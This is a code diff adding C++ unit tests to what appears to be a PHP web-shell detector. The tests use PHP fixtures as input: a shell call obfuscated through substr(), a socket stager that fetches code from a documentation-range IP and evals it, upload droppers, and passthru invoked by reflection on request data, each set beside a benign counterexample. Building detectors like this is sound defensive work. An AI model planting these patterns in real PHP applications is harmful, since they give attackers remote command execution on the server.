@@ -243,5 +243,71 @@ TEST(PhpTaint, StreamWrapperBypassesAndSelfRewrites) {
       Has(Traits("<?php file_put_contents(__FILE__, '<?php exit; ?>');"), "php.rewrites_itself"));
 }
 
+TEST(PhpTaint, NamesCutOutOfDecoyWordsAreFolded) {
+  // A shell function's name cut out of a longer word with substr(), then called as a string.
+  auto cut = Traits(
+      "<?php $run = function() { $m = 'plaxsystemq';"
+      " (substr($m, 4, 3) . substr($m, -4, 3))($_REQUEST['x']); }; $run();");
+  EXPECT_TRUE(Has(cut, "php.request_to_shell"));
+  EXPECT_GE(Alone(cut, "exec"), 4);
+  // The fold follows PHP: negative start and length count from the end.
+  auto n = Normalize(
+      "<?php echo substr('abcdef', 1, 2), substr('abcdef', -3), "
+      "substr('abcdef', 0, -4), substr('abc', 9);",
+      CodeKind::kPhp);
+  ASSERT_FALSE(n.layers.empty());
+  EXPECT_NE(n.layers[0].text.find("'bc','def','ab',''"), std::string::npos) << n.layers[0].text;
+  // substr() of the application's own values calls nothing.
+  auto plain = Traits(
+      "<?php $t = substr('Products and more', 0, 8); echo htmlspecialchars($t);"
+      " echo substr($_GET['q'], 0, 20);");
+  EXPECT_EQ(Alone(plain, "exec"), 0);
+}
+
+TEST(PhpTaint, ConnectionsOpenedThroughANameInAVariable) {
+  // A stager trying one socket function after another through a variable, then running the
+  // code the connection sends.
+  auto stager = Traits(
+      "<?php if (($f = 'stream_socket_client') && is_callable($f)) { $s = "
+      "$f('tcp://192.0.2.7:81'); }"
+      " $n = fread($s, 4); $code = ''; while (strlen($code) < 100) { $code .= fread($s, 100); }"
+      " eval($code);");
+  EXPECT_TRUE(Has(stager, "php.back_connect_shell"));
+  // The same variable call fetching a status line that is only printed runs nothing.
+  auto client = Traits(
+      "<?php $f = 'fsockopen'; $s = $f('status.example.com', 80); fwrite($s, \"GET / "
+      "HTTP/1.0\\r\\n\\r\\n\");"
+      " echo htmlspecialchars(fread($s, 512));");
+  EXPECT_FALSE(Has(client, "php.back_connect_shell"));
+  EXPECT_LT(Alone(client, "exec"), 3);
+}
+
+TEST(PhpTaint, UploadsSavedAsPagesOrWhereTheRequestSays) {
+  EXPECT_TRUE(Has(Traits("<?php move_uploaded_file($_FILES['f']['tmp_name'], 'cache/s.php');"),
+                  "php.upload_to_php"));
+  auto anywhere = Traits("<?php copy($_FILES['f']['tmp_name'], $_POST['to']); echo 'done';");
+  EXPECT_TRUE(Has(anywhere, "php.upload_to_request_path"));
+  EXPECT_GE(Alone(anywhere, "upload"), 3);
+  // A store saving an upload under its own directory and a name it makes is not a dropper.
+  auto shop = Traits(
+      "<?php $name = md5_file($_FILES['img']['tmp_name']) . '.jpg';"
+      " move_uploaded_file($_FILES['img']['tmp_name'], MEDIA_DIR . '/' . $name);");
+  EXPECT_FALSE(Has(shop, "php.upload_to_php"));
+  EXPECT_FALSE(Has(shop, "php.upload_to_request_path"));
+  EXPECT_LT(Alone(shop, "upload"), 3);
+}
+
+TEST(PhpTaint, ExecutionSinksCalledByReflection) {
+  auto shell = Traits(
+      "<?php $r = new ReflectionFunction('passthru'); $r->invokeArgs(array($_COOKIE['k']));");
+  EXPECT_TRUE(Has(shell, "php.request_to_reflected_sink"));
+  EXPECT_GE(Alone(shell, "exec"), 4);
+  // Reflection over the application's own functions (a DI container) is not a sink.
+  auto di = Traits(
+      "<?php $r = new ReflectionFunction($handler); $r->invokeArgs(array($_GET['id']));"
+      " $p = new ReflectionFunction('strlen'); echo $p->getNumberOfParameters();");
+  EXPECT_FALSE(Has(di, "php.request_to_reflected_sink"));
+}
+
 }  // namespace
 }  // namespace tq::webroot
